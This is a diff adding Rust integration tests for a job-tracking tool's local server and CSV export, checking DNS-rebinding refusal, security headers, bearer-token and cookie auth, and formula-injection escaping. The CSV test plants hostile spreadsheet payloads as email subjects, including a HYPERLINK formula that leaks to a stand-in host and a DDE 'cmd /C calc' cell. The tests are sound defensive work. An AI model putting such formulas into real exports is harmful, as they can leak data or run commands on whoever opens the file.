@@ -335,11 +335,18 @@ fn exports_keep_the_warehouse_row_count_and_filters_apply() {
 
 /// One HTTP/1.1 GET over a plain socket: status code and body.
 fn http_get(addr: &str, path: &str) -> (u16, String) {
+    let (code, _, body) = http_request(addr, path, addr, "");
+    (code, body)
+}
+
+/// A GET with the given Host header and extra header lines (each ending in
+/// CRLF); returns the status, the head and the body.
+fn http_request(addr: &str, path: &str, host: &str, extra: &str) -> (u16, String, String) {
     use std::io::{Read, Write};
     let mut s = std::net::TcpStream::connect(addr).unwrap();
     write!(
         s,
-        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
+        "GET {path} HTTP/1.1\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n"
     )
     .unwrap();
     let mut raw = Vec::new();
@@ -350,14 +357,12 @@ fn http_get(addr: &str, path: &str) -> (u16, String) {
     let chunked = head
         .to_ascii_lowercase()
         .contains("transfer-encoding: chunked");
-    (
-        code,
-        if chunked {
-            dechunk(body)
-        } else {
-            body.to_string()
-        },
-    )
+    let body = if chunked {
+        dechunk(body)
+    } else {
+        body.to_string()
+    };
+    (code, head.to_string(), body)
 }
 
 /// A chunked body, decoded.
@@ -453,4 +458,191 @@ fn serve_answers_the_read_only_api() {
     assert_eq!(get("/data.js").0, 200);
     assert_eq!(get("/../warehouse.duckdb").0, 404);
     assert_eq!(get("/warehouse.duckdb").0, 404);
+
+    // A page on another site that made its name resolve to 127.0.0.1 (DNS
+    // rebinding) sends its own name as Host: refused.
+    let port = addr.rsplit(':').next().unwrap();
+    for host in ["evil.example", &format!("evil.example:{port}")] {
+        let (code, _, body) = http_request(&addr, "/applications", host, "");
+        assert_eq!(code, 403, "{host}: {body}");
+        assert!(!body.contains("application_id"), "{body}");
+    }
+    assert_eq!(
+        http_request(&addr, "/export.csv", &format!("localhost:{port}"), "").0,
+        200
+    );
+    // Every answer, refusals too, carries the security headers.
+    for path in ["/", "/applications", "/nope"] {
+        let (_, head, _) = http_request(&addr, path, &addr, "");
+        let head = head.to_ascii_lowercase();
+        for want in [
+            "content-security-policy: default-src 'none'",
+            "frame-ancestors 'none'",
+            "x-content-type-options: nosniff",
+            "referrer-policy: no-referrer",
+            "cache-control: no-store",
+        ] {
+            assert!(head.contains(want), "{path}: no {want} in {head}");
+        }
+    }
+}
+
+#[test]
+fn serve_off_loopback_needs_a_token_and_checks_it() {
+    use std::io::BufRead;
+    let dir = tempfile::tempdir().unwrap();
+    ok(dir.path(), &["run"]);
+    let refused = jobtrack(dir.path(), &["serve", "--bind", "0.0.0.0", "--port", "0"]);
+    assert_eq!(refused.status.code(), Some(2));
+    let stderr = String::from_utf8_lossy(&refused.stderr);
+    assert!(stderr.contains("--token-env"), "{stderr}");
+
+    struct Server(std::process::Child);
+    impl Drop for Server {
+        fn drop(&mut self) {
+            let _ = self.0.kill();
+            let _ = self.0.wait();
+        }
+    }
+    let mut server = Server(
+        Command::new(env!("CARGO_BIN_EXE_jobtrack"))
+            .args([
+                "serve",
+                "--bind",
+                "0.0.0.0",
+                "--port",
+                "0",
+                "--token-env",
+                "SERVE_TOKEN",
+            ])
+            .current_dir(dir.path())
+            .env("RUST_LOG", "warn")
+            .env("SERVE_TOKEN", "s3cret-token")
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let mut line = String::new();
+    std::io::BufReader::new(server.0.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    let port = line
+        .rsplit(':')
+        .next()
+        .and_then(|s| s.split('/').next())
+        .unwrap_or_else(|| panic!("no port in {line:?}"))
+        .to_string();
+    let addr = format!("127.0.0.1:{port}");
+    // Any host name goes off loopback; the token is what counts.
+    let (code, _, _) = http_request(&addr, "/applications", "laptop.lan", "");
+    assert_eq!(code, 401);
+    let wrong = "Authorization: Bearer s3cret-tokem\r\n";
+    assert_eq!(
+        http_request(&addr, "/applications", "laptop.lan", wrong).0,
+        401
+    );
+    let right = "Authorization: Bearer s3cret-token\r\n";
+    let (code, _, body) = http_request(&addr, "/applications", "laptop.lan", right);
+    assert_eq!(code, 200, "{body}");
+    // In a browser: ?token= once sets a cookie that later requests carry.
+    let (code, head, _) = http_request(&addr, "/?token=s3cret-token", "laptop.lan", "");
+    assert_eq!(code, 200);
+    let cookie = head
+        .lines()
+        .find_map(|l| {
+            l.strip_prefix("set-cookie: ")
+                .or_else(|| l.strip_prefix("Set-Cookie: "))
+        })
+        .unwrap_or_else(|| panic!("no cookie in {head}"));
+    assert!(
+        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
+        "{cookie}"
+    );
+    let pair = cookie.split(';').next().unwrap();
+    let (code, _, _) = http_request(
+        &addr,
+        "/data.js",
+        "laptop.lan",
+        &format!("Cookie: {pair}\r\n"),
+    );
+    assert_eq!(code, 200);
+}
+
+#[test]
+fn a_csv_export_neutralizes_cells_a_spreadsheet_would_run() {
+    let dir = tempfile::tempdir().unwrap();
+    let mail = dir.path().join("mail");
+    std::fs::create_dir_all(&mail).unwrap();
+    let subjects = [
+        "=HYPERLINK(\"http://x.example/?leak\",\"Your application\")",
+        "+1 555 0100 called about the role",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3 interview slots",
+        "Your application to Acme",
+    ];
+    for (i, subject) in subjects.iter().enumerate() {
+        std::fs::write(
+            mail.join(format!("{i}.eml")),
+            format!(
+                "From: Acme Careers <jobs@acme.example>\r\nTo: me@example.net\r\n\
+                 Subject: {subject}\r\nDate: Mon, 2 Nov 2026 10:0{i}:00 +0000\r\n\
+                 Message-ID: <csv-{i}@acme.example>\r\n\r\nThank you for applying.\r\n"
+            ),
+        )
+        .unwrap();
+    }
+    ok(dir.path(), &["run", "--source", "eml:mail"]);
+    ok(
+        dir.path(),
+        &[
+            "export",
+            "--table",
+            "emails",
+            "--format",
+            "csv",
+            "--out",
+            "emails.csv",
+        ],
+    );
+    let script = "import csv, sys\n\
+        rows = list(csv.DictReader(open(sys.argv[1], encoding='utf-8-sig', newline='')))\n\
+        for r in rows: print(r['subject'])\n";
+    let out = Command::new("python3")
+        .args([
+            "-c",
+            script,
+            dir.path().join("emails.csv").to_str().unwrap(),
+        ])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let cells: Vec<String> = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(str::to_string)
+        .collect();
+    assert_eq!(cells.len(), subjects.len(), "{cells:?}");
+    for subject in subjects {
+        let want = if subject.starts_with(['=', '+', '-', '@']) {
+            format!("'{subject}")
+        } else {
+            subject.to_string()
+        };
+        assert!(cells.contains(&want), "{want:?} not in {cells:?}");
+    }
+    // The warehouse keeps the subject as it came: only the export is changed.
+    let json = ok(
+        dir.path(),
+        &[
+            "sql",
+            "select subject from emails where subject like '=%'",
+            "--format",
+            "json",
+        ],
+    );
+    assert!(json.contains("=HYPERLINK"), "{json}");
 }
